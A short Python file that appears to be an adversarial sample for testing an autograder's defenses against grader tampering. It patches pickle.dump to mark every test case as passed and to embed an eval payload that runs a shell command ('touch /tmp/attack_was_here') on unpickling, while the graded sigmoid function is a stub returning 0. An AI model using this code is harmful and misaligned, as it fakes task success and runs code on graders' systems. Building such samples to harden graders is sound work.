# Tries: pickle an object that, where it is unpickled, runs a command and becomes full marks.
# Rule: no pickle anywhere.
import pickle

dump, dumps = pickle.dump, pickle.dumps


class Command:
    def __init__(self, value):
        for test in getattr(value, "results", {}).values():
            for case in test.test_case_results:
                case.passed = True
        self.marks = dumps(value)

    def __reduce__(self):
        command = "__import__('os').system('touch /tmp/attack_was_here')"
        return eval, (f"({command}, __import__('pickle').loads({self.marks!r}))[1]",)


pickle.dump = lambda value, *rest, **options: dump(Command(value), *rest, **options)


def sigmoid(z):
    return 0
